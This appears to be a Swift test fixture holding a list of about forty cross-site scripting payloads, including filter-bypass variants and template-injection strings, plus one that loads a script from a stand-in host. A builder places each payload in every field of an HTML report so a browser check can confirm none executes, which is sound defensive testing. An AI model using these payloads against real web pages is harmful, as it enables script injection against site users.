/// Note text written to attack the HTML report. Each payload, if it ever ran, would set the
/// page title to "PWNED" or add an element with id "pwned"; the browser check looks for both.
enum HostileInputs {
    static let payloads: [String] = [
        "<script>document.title='PWNED'</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<img src=x onerror=\"document.title='PWNED'\">",
        "<svg onload=\"document.title='PWNED'\"></svg>",
        "<svg><script>document.title='PWNED'</script></svg>",
        "<body onload=\"document.title='PWNED'\">",
        "<iframe src=\"javascript:document.title='PWNED'\"></iframe>",
        "<iframe srcdoc=\"<script>parent.document.title='PWNED'</script>\"></iframe>",
        "<a href=\"javascript:document.title='PWNED'\">click</a>",
        "[click](javascript:document.title='PWNED')",
        "[click](JaVaScRiPt:document.title='PWNED')",
        "[click](java\tscript:document.title='PWNED')",
        "[click](vbscript:msgbox(1))",
        "[click](data:text/html;base64,PHNjcmlwdD5kb2N1bWVudC50aXRsZT0nUFdORUQnPC9zY3JpcHQ+)",
        "![img](javascript:document.title='PWNED')",
        "![img](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImRvY3VtZW50LnRpdGxlPSdQV05FRCciLz4=)",
        "<a href=\"&#106;avascript:document.title='PWNED'\">entity</a>",
        "[entity](&#106;avascript:document.title='PWNED')",
        "<div style=\"background:url(javascript:document.title='PWNED')\">x</div>",
        "<style>body{background:url(\"javascript:alert(1)\")}</style>",
        "<object data=\"javascript:document.title='PWNED'\"></object>",
        "<embed src=\"javascript:document.title='PWNED'\">",
        "<form action=\"javascript:document.title='PWNED'\"><button>go</button></form>",
        "<input autofocus onfocus=\"document.title='PWNED'\">",
        "<details open ontoggle=\"document.title='PWNED'\">",
        "<math><mtext><table><mglyph><style><img src=x onerror=\"document.title='PWNED'\">",
        "<scr<script>ipt>document.title='PWNED'</scr</script>ipt>",
        "<img src=x onerror=document.title='PWNED'//",
        "\"><img src=x onerror=\"document.title='PWNED'\">",
        "'><script>document.title='PWNED'</script>",
        "</title><script>document.title='PWNED'</script>",
        "</style><script>document.title='PWNED'</script>",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:document.title='PWNED'\">",
        "<base href=\"javascript:/\">",
        "<p id=\"pwned\">planted element</p>",
        "{{reportTitle.html}} {{{reportTitle.html}}} {{#strengths}}loop{{/strengths}}",
        "{{=<% %>=}} <%reportTitle.text%>",
        "<!-- --><script>document.title='PWNED'</script><!-- -->",
        "`<script>document.title='PWNED'</script>`",
        "<https://example.com/\"onmouseover=\"document.title='PWNED'>",
        "<a href=\"https://example.com\" onclick=\"document.title='PWNED'\">site</a>",
    ]

    /// One note that puts every payload in every field a report shows.
    static var note: String {
        var lines = ["---", "candidate: \"<script>document.title='PWNED'</script>\"", "---", ""]
        lines += ["# <img src=x onerror=\"document.title='PWNED'\">", ""]
        lines += ["Summary", ""] + payloads.map { "\($0)\n" }
        lines += ["Strengths", ""] + payloads.map { "• \($0)" } + [""]
        lines += ["Areas for Improvement", "", "Area <svg onload=x> — examples you can say", ""]
        for payload in payloads {
            lines += ["• \(payload): detail \(payload)", "  “\(payload)”", ""]
        }
        lines += ["Next Steps", ""] + payloads.map { "- \($0)" } + [""]
        lines += ["## Ratings", "", "| Competency | Score | Notes |", "| --- | --- | --- |"]
        lines += payloads.map { "| \($0.replacingOccurrences(of: "|", with: "\\|")) | 3/4 | ok |" }
        lines += ["", "## Unknown section <b onmouseover=x>", ""] + payloads.map { "\($0)\n" }
        return lines.joined(separator: "\n")
    }
}
